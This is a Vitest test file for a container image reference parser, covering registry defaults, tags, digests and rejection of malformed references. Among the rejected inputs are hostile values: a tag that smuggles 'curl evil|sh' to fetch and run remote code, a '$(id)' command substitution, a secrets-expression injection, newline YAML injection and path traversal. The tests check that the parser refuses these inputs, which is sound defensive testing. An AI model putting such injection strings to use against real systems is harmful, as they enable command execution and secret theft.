import { describe, expect, it, test } from "vitest";
import { imageArtifact, isImageName, parseImageReference } from "../../src/artifacts/image-reference.ts";
import { UserError } from "../../src/errors.ts";

const DIGEST = `sha256:${"a".repeat(64)}`;

describe("an image reference", () => {
  test.each([
    ["nginx", "docker.io", "library/nginx", null, null],
    ["nginx:1.27", "docker.io", "library/nginx", "1.27", null],
    ["acme/podinfo:1", "docker.io", "acme/podinfo", "1", null],
    ["docker.io/nginx", "docker.io", "library/nginx", null, null],
    ["index.docker.io/nginx", "docker.io", "library/nginx", null, null],
    ["docker.io/library/nginx", "docker.io", "library/nginx", null, null],
    ["ghcr.io/acme/podinfo:1.2.3", "ghcr.io", "acme/podinfo", "1.2.3", null],
    ["GHCR.io/acme/podinfo", "ghcr.io", "acme/podinfo", null, null],
    [`ghcr.io/acme/podinfo:1.2.3@${DIGEST}`, "ghcr.io", "acme/podinfo", "1.2.3", DIGEST],
    [`ghcr.io/acme/podinfo@${DIGEST}`, "ghcr.io", "acme/podinfo", null, DIGEST],
    [`x@sha512:${"0".repeat(128)}`, "docker.io", "library/x", null, `sha512:${"0".repeat(128)}`],
    ["localhost/x", "localhost", "x", null, null],
    ["localhost:5000/a/b/c:t", "localhost:5000", "a/b/c", "t", null],
    ["127.0.0.1:33333/app:v1", "127.0.0.1:33333", "app", "v1", null],
    ["[::1]:5000/app", "[::1]:5000", "app", null, null],
    ["a__b/c-d--e.f_g", "docker.io", "a__b/c-d--e.f_g", null, null],
    ["ghcr.io.evil.example/org/app", "ghcr.io.evil.example", "org/app", null, null],
    ["ghcr.io/org-evil/app", "ghcr.io", "org-evil/app", null, null],
    ["org/app", "docker.io", "org/app", null, null],
  ])("%s", (text, registry, repository, tag, digest) => {
    const reference = parseImageReference(text);
    expect(reference).toMatchObject({ registry, repository, version: { tag, digest } });
    expect(reference.artifact.id).toBe(`${registry}/${repository}`);
  });

  it("keeps the name as it was written", () => {
    expect(parseImageReference("nginx:1").artifact).toEqual({
      kind: "image",
      name: "nginx",
      id: "docker.io/library/nginx",
    });
  });

  test.each([
    ["ghcr.io@evil.example/org/app", "what follows @"],
    ["user:pass@ghcr.io/org/app", "what follows @"],
    ["ghcr.io/org/../evil/app", "a repository is"],
    ["ghcr.io/org//app", "a repository is"],
    ["ghcr.io/org/app/", "a repository is"],
    ["/app", "a repository is"],
    ["-x/app", "a repository is"],
    ["ghcr.io/Org/app", "lower case"],
    ["Nginx", "lower case"],
    ["IMAGE_PLACEHOLDER", "lower case"],
    ["https://ghcr.io/app", "the registry is not"],
    ["oci://ghcr.io/app", "the registry is not"],
    ["ghcr.io:port/app", "the registry is not"],
    ["-x.io/app", "the registry is not"],
    ["ghcr..io/app", "the registry is not"],
    ["app:v1;curl evil|sh", "the tag may hold"],
    ["app:$(id)", "the tag may hold"],
    ["app:${{ secrets.X }}", "the tag may hold"],
    [`app:${"a".repeat(129)}`, "the tag may hold"],
    ["app:.x", "the tag may hold"],
    ["app:-x", "the tag may hold"],
    ["app:", "the tag may hold"],
    ["app:v1\n  injected: true", "the tag may hold"],
    ["app:1.2.3@sha256:aaa", "what follows @"],
    [`app@SHA256:${"a".repeat(64)}`, "what follows @"],
    [`app@sha256:${"A".repeat(64)}`, "what follows @"],
    [`app@${DIGEST}@${DIGEST}`, "what follows @"],
    [`app@md5:${"a".repeat(32)}`, "what follows @"],
    ["app@", "what follows @"],
    ["", "a repository is"],
    [" nginx", "a repository is"],
    ["nginx\n", "a repository is"],
    ["a".repeat(64), "image id"],
    [`${"a/".repeat(200)}b`, "longer than 255"],
  ])("%j is refused", (text, reason) => {
    expect(() => parseImageReference(text)).toThrow(UserError);
    expect(() => parseImageReference(text)).toThrow(reason);
  });

  it("names the value and what was expected, on one line, as a usage error", () => {
    const refusal = /^the image "a b\\n" is not valid: .*; expected registry\/repository:tag, for example .*$/u;
    expect(() => parseImageReference("a b\n")).toThrow(refusal);
    expect(() => parseImageReference("a b\n")).toThrow(expect.objectContaining({ exitCode: 2 }));
  });
});

describe("a bare image name", () => {
  test.each([
    ["nginx", true],
    ["ghcr.io/acme/podinfo", true],
    ["localhost:5000/x", true],
    ["nginx:1", false],
    [`nginx@${DIGEST}`, false],
    ["IMAGE_PLACEHOLDER", false],
    ["", false],
  ])("%j: %j", (text, is) => {
    expect(isImageName(text)).toBe(is);
  });

  it("is an artifact with Docker's defaults", () => {
    expect(imageArtifact("nginx").id).toBe("docker.io/library/nginx");
    expect(imageArtifact("docker.io/library/nginx").id).toBe("docker.io/library/nginx");
    expect(() => imageArtifact("nginx:1")).toThrow('the image "nginx:1" is not valid');
  });
});
